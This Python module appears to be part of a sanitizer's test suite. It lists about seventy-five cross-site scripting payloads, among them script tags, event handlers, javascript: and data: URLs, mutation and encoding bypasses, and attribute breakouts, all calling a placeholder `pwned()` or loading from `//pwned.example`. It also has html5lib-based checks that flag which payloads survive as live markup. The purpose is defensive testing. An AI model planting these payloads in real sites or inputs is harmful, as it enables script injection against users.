"""Ways to smuggle a script into a sentence, and the eye of an HTML5 parser for those that got in.

Every payload would do something named `pwned`. What a parser sees as text is harmless, wherever it
stands; what it sees as an element, a handler or an address that runs is not.
"""

import xml.etree.ElementTree as Xml

import html5lib

PAYLOADS = (
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT>",
    "<script src=//pwned.example></script>",
    "<script>pwned()",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "</script><script>pwned()</script>",
    "<!--><script>pwned()</script>",
    "<!-- --!><script>pwned()</script>",
    "<!--<img src=\"--><img src=x onerror=pwned()>\">",
    "<!---><script>pwned()</script>-->",
    "<![CDATA[><script>pwned()</script>]]>",
    "<![CDATA[<img src=x onerror=pwned()>]]>",
    "<?xml ><script>pwned()</script>?>",
    "<!doctype html><script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<img src=x onerror\n=\npwned()>",
    "<img/src=x/onerror=pwned()>",
    "<img src=`x`onerror=pwned()>",
    "<img src='x' onerror=&#112;wned()>",
    "<image src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><a xlink:href=javascript:pwned()><text>x</text></a></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=pwned()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "<math href=javascript:pwned()>x</math>",
    "<b onclick=pwned()>bold</b>",
    "<b onmouseover='pwned()' style='x:expression(pwned())'>bold</b>",
    "<b/onclick=pwned()>bold</b>",
    "<a href=javascript:pwned()>link</a>",
    "<a href=\"jAvAsCrIpT:pwned()\">link</a>",
    "<a href=\"java\tscript:pwned()\">link</a>",
    "<a href=\"java&#10;script:pwned()\">link</a>",
    "<a href=\"&#106;avascript:pwned()\">link</a>",
    "<a href=\" &#14; javascript:pwned()\">link</a>",
    "<a href=\"vbscript:pwned()\">link</a>",
    "<a href=\"data:text/html,<script>pwned()</script>\">link</a>",
    "<a id=\"a1\" href=\"javascript:pwned()\" onclick=\"pwned()\">link</a>",
    "<a id='a1'onclick='pwned()'>link</a>",
    "<a id=\"a1\"\nonfocus=pwned() autofocus>link</a>",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc=\"<script>pwned()</script>\"></iframe>",
    "<object data=javascript:pwned()></object>",
    "<embed src=javascript:pwned()>",
    "<form action=javascript:pwned()><button>x</button></form>",
    "<button formaction=javascript:pwned()>x</button>",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>x</details>",
    "<video><source onerror=pwned()></video>",
    "<body onload=pwned()>",
    "<base href=//pwned.example>",
    "<meta http-equiv=refresh content=\"0;url=javascript:pwned()\">",
    "<link rel=stylesheet href=//pwned.example>",
    "<style>@import '//pwned.example'</style>",
    "<template><script>pwned()</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwned()>\">",
    "<title><img src=x onerror=pwned()></title>",
    "<textarea><img src=x onerror=pwned()></textarea>",
    "<xmp><script>pwned()</script></xmp>",
    "<plaintext><script>pwned()</script>",
    "<select><script>pwned()</script></select>",
    "<table><td background=javascript:pwned()>x</table>",
    "\"><script>pwned()</script>",
    "'><img src=x onerror=pwned()>",
    "\" onfocus=pwned() autofocus x=\"",
    "</textarea><script>pwned()</script>",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&lt;img src=x onerror=pwned()&gt;",
    "&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;",
    "\u003cscript\u003epwned()\u003c/script\u003e",
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "{{ pwned }}{% pwned %}${pwned}",
    "<b><i><a id=\"a1\"><script>pwned()</script></a></i></b>",
    "<p/><script>pwned()</script>",
    "<a\u2028href=javascript:pwned()>link</a>",
)  # fmt: skip
RUNS = ("javascript:", "vbscript:", "data:")
LEADS = {"href", "src", "action", "formaction", "data", "background", "srcdoc", "content", "poster"}
NEVER = {"iframe", "object", "embed", "base", "img", "image", "svg", "math", "template", "style"}


def live(document):
    """What in a document would run or load what the payloads name, as HTML5 parses it."""
    tree = html5lib.parse(document, namespaceHTMLElements=False)
    return [fault for element in tree.iter() for fault in _faults(element)]


def live_in_feed(document):
    """The same in a feed: in every text of it that says it is HTML; others are words."""
    tree = Xml.fromstring(document)  # noqa: S314 - the site's own words
    assert "xwordx" in "".join(tree.itertext()), "It shows nothing of what was smuggled."
    texts = [element.text or "" for element in tree.iter() if element.get("type") == "html"]
    assert texts, "It has no text that programs take for HTML."
    return [fault for text in texts for fault in live(text)]


def _faults(element):
    tag = str(element.tag).rpartition("}")[2].lower()
    # Data for scripts to read is text.
    runs = tag == "script" and "json" not in element.get("type", "")
    if runs and "pwned" in (element.text or ""):
        yield f"<script>{element.text}"
    for name, value in element.items():
        name = str(name).rpartition("}")[2].lower()
        if "pwned" not in value:
            continue
        if name.startswith("on") or name == "style" or tag in NEVER:
            yield f"<{tag} {name}={value}>"
        if name in LEADS and "".join(value.split()).lower().startswith((*RUNS, "//pwned")):
            yield f"<{tag} {name}={value}>"
